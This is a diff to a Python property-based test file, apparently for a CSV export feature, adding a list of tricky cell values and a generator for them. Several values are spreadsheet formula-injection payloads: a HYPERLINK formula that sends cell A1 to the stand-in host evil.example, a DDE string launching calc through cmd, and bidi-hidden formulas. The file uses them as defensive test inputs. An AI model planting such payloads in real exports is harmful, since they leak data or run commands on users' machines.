@@ -354,3 +354,48 @@ CSV_FILES = st.one_of(
         st.lists(st.tuples(NASTY_TEXT, DATES, CSV_CELLS, NASTY_TEXT), min_size=1, max_size=4),
     ),
 )
+
+# Text that export cells must write faithfully and safely: formulas and the numbers that look
+# like them, CSV quoting, line breaks, other scripts and digits, bidi controls, long text.
+# No NUL: PostgreSQL's text can't hold it, so no incident can.
+CELL_TEXT_VALUES = [
+    "",
+    " ",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-1+1",
+    "\tx",
+    "\rx",
+    "-5",
+    "+3",
+    "-1.5",
+    "-.5e3",
+    "-5\n",
+    "-inf",
+    "-nan",
+    "-1_000",
+    "-٣",
+    "\t5",
+    "'=already neutral",
+    'a "quote", a comma; a semicolon',
+    "two\nlines",
+    "windows\r\nline",
+    "هجوم صاروخي على قاعدة",
+    "كتائب حزب الله",
+    "\u202eexe.pdf",
+    "\u202e=1+1",
+    "\u2066=cmd\u2069",
+    "a\u200fb\u200ec\u061cd\u202a\u202b\u202c\u202d",
+    "emoji 🚀 and 𝟛",
+    "publisher: title <https://example.org/x>",
+    "; ",
+    "x" * 3000,
+]
+FORMULA_ALPHABET = "=+-@\t\r\n 0123456789.eE'\"abc٣\u202e\u2066\u200f\u061c"
+CELL_TEXT = st.one_of(
+    st.sampled_from(CELL_TEXT_VALUES),
+    st.text(FORMULA_ALPHABET, max_size=12),
+    NASTY_TEXT.filter(lambda text: "\x00" not in text),
+)
